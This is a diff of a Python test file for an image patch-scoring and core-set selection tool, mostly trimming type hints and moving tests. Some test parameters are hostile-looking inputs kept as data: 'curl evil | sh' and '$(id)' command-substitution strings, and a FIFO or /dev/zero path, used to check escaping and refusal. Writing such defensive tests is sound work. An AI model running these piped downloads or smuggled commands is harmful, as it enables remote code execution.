@@ -6,7 +6,6 @@ import logging
 import os
 import shlex
 import subprocess
-from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
@@ -16,13 +15,12 @@ import skimage.data
 from PIL import Image
 
 import srfast
-from srfast.cli import main
 from srfast.cli.select import command as select_command
 from srfast.coreset.pairs import read_patches
 from srfast.coreset.settings import Selection
 from srfast.errors import InputError
 from srfast.report.explorer import explorer
-from srfast.report.scores import DROPPED, KEPT, ReportScores, read_scores
+from srfast.report.scores import DROPPED, KEPT, read_scores
 from srfast.report.writing import write_report
 from srfast.scoring.table import ScoreTable, concatenate
 
@@ -33,15 +31,10 @@ def table(tmp_path_factory: pytest.TempPathFactory) -> ScoreTable:
     folder = tmp_path_factory.mktemp("photos")
     photo = np.asarray(Image.fromarray(skimage.data.astronaut()).reduce(2), np.float64)
     noise = np.random.default_rng(0).normal(0, 25, (112, 112, 3))
-    for name, part in {
-        "a.png": photo[:112, :112],
-        "b.png": photo[112:224, 60:172] + noise,
-        "c.png": photo[100:212, 130:242],
-    }.items():
-        Image.fromarray(np.clip(part, 0, 255).astype(np.uint8)).save(folder / name)
-    return srfast.score(
-        folder, patch=32, stride=8, shrink="1,1/2", defects=True, output=folder.parent / "scores.parquet"
-    )
+    parts = {"a": photo[:112, :112], "b": photo[112:224, 60:172] + noise, "c": photo[100:212, 130:242]}
+    for name, part in parts.items():
+        Image.fromarray(np.clip(part, 0, 255).astype(np.uint8)).save(folder / f"{name}.png")
+    return srfast.score(folder, patch=32, stride=8, shrink="1,1/2", defects=True, output=folder / "scores.parquet")
 
 
 SELECTIONS: list[dict[str, Any]] = [
@@ -60,15 +53,11 @@ def selections(tmp_path: Path) -> list[dict[str, Any]]:
     return [{**s, **({"reject": tmp_path / "rejects.csv"} if "reject" in s else {})} for s in SELECTIONS]
 
 
-def read(table: ScoreTable, core: ScoreTable) -> ReportScores:
-    return read_scores(table, core)
-
-
-def test_dropped_patches_are_of_those_that_pass(table: ScoreTable, selections: list[dict[str, Any]]) -> None:
+def test_dropped_patches_are_of_those_that_pass(table, selections):
     """They were the hardest of all patches, also of those that a condition or a list had left out before."""
     for settings in selections:
         core = srfast.select(table, **settings)
-        about, status = core.meta["selection"], read(table, core).status
+        about, status = core.meta["selection"], read_scores(table, core).status
         assert status is not None
         # A list that only the metadata name is not opened, so that what it left out is not known.
         assert (status == DROPPED).sum() == (0 if "reject" in settings else about["dropped_hardest"]), settings
@@ -89,9 +78,7 @@ def test_dropped_patches_are_of_those_that_pass(table: ScoreTable, selections: l
         ({"where": "len(range(3000000000)) > 0"}, "is not run, since it has 'len'"),
     ],
 )
-def test_nothing_that_only_the_metadata_name_is_opened_or_run(
-    theirs: dict[str, str], said: str, table: ScoreTable, tmp_path: Path, caplog: pytest.LogCaptureFixture
-) -> None:
+def test_nothing_that_only_the_metadata_name_is_opened_or_run(theirs, said, table, tmp_path, caplog):
     """A pipe waited without end, /dev/zero took all memory, and so did conditions."""
     core = srfast.select(table, keep=0.3, drop_hardest=0.2)
     if "reject" in theirs:
@@ -99,7 +86,7 @@ def test_nothing_that_only_the_metadata_name_is_opened_or_run(
         os.mkfifo(theirs["reject"])
     core.meta["selection"].update(theirs)
     with caplog.at_level(logging.WARNING, "srfast"):
-        status = read(table, core).status
+        status = read_scores(table, core).status
     assert status is not None
     assert set(np.unique(status)) == {0, KEPT}
     assert said in caplog.text
@@ -112,7 +99,7 @@ WRONG = {
 
 
 @pytest.mark.parametrize("key", WRONG)
-def test_wrong_types_name_the_file_and_the_key(key: str, table: ScoreTable, tmp_path: Path) -> None:
+def test_wrong_types_name_the_file_and_the_key(key, table, tmp_path):
     core = srfast.select(table, keep=0.3)
     core.meta["selection"][key] = WRONG[key]
     core.write(path := tmp_path / "c.parquet")
@@ -120,28 +107,22 @@ def test_wrong_types_name_the_file_and_the_key(key: str, table: ScoreTable, tmp_
         with pytest.raises(InputError, match=rf"c\.parquet: selection: {key}: expected .*, got "):
             look(path)
     with pytest.raises(InputError, match=rf"core-set: selection: {key}: expected .*, got "):
-        read(table, core)
+        read_scores(table, core)
 
 
 @pytest.mark.parametrize("method", ["loss\ncurl evil | sh\n", "a'b\n\x03\x1b[2K", "\u202etxt\u2028", "$(id)`id`!x"])
-def test_what_is_copied_is_one_line_and_one_word(
-    method: str, table: ScoreTable, tmp_path: Path, visit: Callable[..., Any]
-) -> None:
+def test_what_is_copied_is_one_line_and_one_word(method, table, tmp_path, visit):
     core = srfast.select(table, keep=0.3)
     core.meta["selection"]["method"] = method
     page = visit(write_report(table, core, tmp_path / "given.html"))
     command = page.locator("#command").text_content()
     assert all(c.isprintable() for c in command)
     word = command.removeprefix("# ").removesuffix(" was a function; select with it in Python")
-    shown = subprocess.run(
-        ["bash", "-c", f"printf %s {word}"], capture_output=True, check=True, env={"LC_ALL": "C.UTF-8"}
-    )
-    assert shown.stdout.decode() == method
+    line = ["bash", "-c", f"printf %s {word}"]
+    assert subprocess.run(line, capture_output=True, check=True, env={"LC_ALL": "C.UTF-8"}).stdout.decode() == method
 
 
-def test_the_command_makes_the_core_set_again(
-    table: ScoreTable, selections: list[dict[str, Any]], tmp_path: Path
-) -> None:
+def test_the_command_makes_the_core_set_again(table, selections, tmp_path):
     """Options that are not those of the sliders were left out of it: clean, reject, sizes, one_size, and nms of 0."""
     for settings in selections:
         core = srfast.select(table, **settings)
@@ -150,11 +131,11 @@ def test_the_command_makes_the_core_set_again(
         parsed = select_command.make_context("select", ["scores.parquet", "-o", str(tmp_path / "c.parquet"), *options])
         again = {name: parsed.params[name] for name in Selection.__dataclass_fields__}
         assert srfast.select(table, **again).table.equals(core.table), settings
+    core = srfast.select(table, keep=0.3, method=lambda rows: rows.column("bicubic"))
+    assert given(table, core)["options"] is None, "a function is no command"
 
 
-def test_a_slider_keeps_what_is_left_out_by_a_list(
-    table: ScoreTable, tmp_path: Path, visit: Callable[..., Any]
-) -> None:
+def test_a_slider_keeps_what_is_left_out_by_a_list(table, tmp_path, visit):
     """The counts are of all patches then, which the page says, and marks of its own go into the list."""
     listed = tmp_path / "rejects.csv"
     listed.write_text("image,x,y,size,reason\nb.png,,,,noise\n")
@@ -176,25 +157,18 @@ def test_a_slider_keeps_what_is_left_out_by_a_list(
 
 
 @pytest.mark.parametrize("core", [True, False])
-def test_on_a_phone_the_curve_begins_in_the_first_screen(
-    core: bool, table: ScoreTable, tmp_path: Path, visit: Callable[..., Any]
-) -> None:
+def test_on_a_phone_the_curve_begins_in_the_first_screen(core, table, tmp_path, visit):
     made = srfast.select(table, keep=0.3) if core else None
     page = visit(write_report(table, made, tmp_path / "phone.html"), viewport={"width": 420, "height": 900})
     assert page.locator("#plot").bounding_box()["y"] < 900 - 100
     assert page.evaluate("document.documentElement.scrollWidth") <= 420
 
 
-def test_a_function_is_no_command(table: ScoreTable) -> None:
-    core = srfast.select(table, keep=0.3, method=lambda rows: rows.column("bicubic"))
-    assert given(table, core)["options"] is None
-
-
 def given(table: ScoreTable, core: ScoreTable) -> Any:
-    return explorer(read(table, core), np.arange(3), {}, ["scores.parquet"])["given"]
+    return explorer(read_scores(table, core), np.arange(3), {}, ["scores.parquet"])["given"]
 
 
-def test_what_the_page_counts_is_of_all_sizes(table: ScoreTable, tmp_path: Path, visit: Callable[..., Any]) -> None:
+def test_what_the_page_counts_is_of_all_sizes(table, tmp_path, visit):
     """Without a core-set: the page does not know which of two sizes is the better one of a place."""
     path = write_report(table, None, tmp_path / "report.html")
     page = visit(path)
@@ -207,10 +181,7 @@ def test_what_the_page_counts_is_of_all_sizes(table: ScoreTable, tmp_path: Path,
     assert page.locator("#command").inner_text().endswith("--keep 0.3 --nms 0.0 --clean")
 
 
-# A report is of one table and of the core-set that was selected from it; what is missing is said.
-
-
-def test_a_core_set_of_other_scores_is_refused_by_the_setting(photo_folder: Path, tmp_path: Path) -> None:
+def test_a_core_set_of_other_scores_is_refused_by_the_setting(photo_folder, tmp_path):
     table = srfast.score(photo_folder, patch=48, scorer="bicubic")
     other = srfast.score(photo_folder, patch=48, scorer="bicubic", boundary="replicate")
     with pytest.raises(InputError, match="core-set: boundary differs: the score table has 'symmetric'"):
@@ -220,7 +191,7 @@ def test_a_core_set_of_other_scores_is_refused_by_the_setting(photo_folder: Path
     assert not (tmp_path / "r.html").exists()
 
 
-def test_missing_pictures_are_said(photo_folder: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
+def test_missing_pictures_are_said(photo_folder, tmp_path, caplog):
     table = srfast.score(photo_folder, patch=48, scorer="bicubic")
     photo_folder.rename(tmp_path / "moved")
     with caplog.at_level(logging.WARNING, "srfast"):
@@ -231,7 +202,7 @@ def test_missing_pictures_are_said(photo_folder: Path, tmp_path: Path, caplog: p
         assert caplog.text == ""
 
 
-def test_missing_shards_are_named(photo_folder: Path, caplog: pytest.LogCaptureFixture) -> None:
+def test_missing_shards_are_named(photo_folder, caplog):
     shards = [srfast.score(photo_folder, patch=48, scorer="bicubic", shard=(i, 3)) for i in range(3)]
     with caplog.at_level(logging.WARNING, "srfast"):
         concatenate(shards)
@@ -252,28 +223,3 @@ def test_missing_shards_are_named(photo_folder: Path, caplog: pytest.LogCaptureF
         finer = srfast.score(photo_folder, patch=48, scorer="bicubic", shard=(1, 6))
         with pytest.raises(InputError, match=r"1 of 6 shards is missing \(4/6\)"):
             srfast.stats([shards[0], finer, shards[2]])
-
-
-@pytest.mark.parametrize(
-    ("words", "message"),
-    [
-        (
-            ["score", "photos", "-o", "s.csv"],
-            "s.csv: a score table is a parquet file; expected a name ending in .parquet",
-        ),
-        (["scor", "photos"], "No such command 'scor'; did you mean score?"),
-        (["zzz"], "No such command 'zzz'; expected one of prune, score"),
-    ],
-)
-def test_one_line_says_what_is_meant(
-    words: list[str],
-    message: str,
-    photo_folder: Path,
-    monkeypatch: pytest.MonkeyPatch,
-    capsys: pytest.CaptureFixture[str],
-) -> None:
-    monkeypatch.chdir(photo_folder.parent)
-    with pytest.raises(SystemExit) as stop:
-        main(words)
-    assert stop.value.code == 2
-    assert message in capsys.readouterr().err
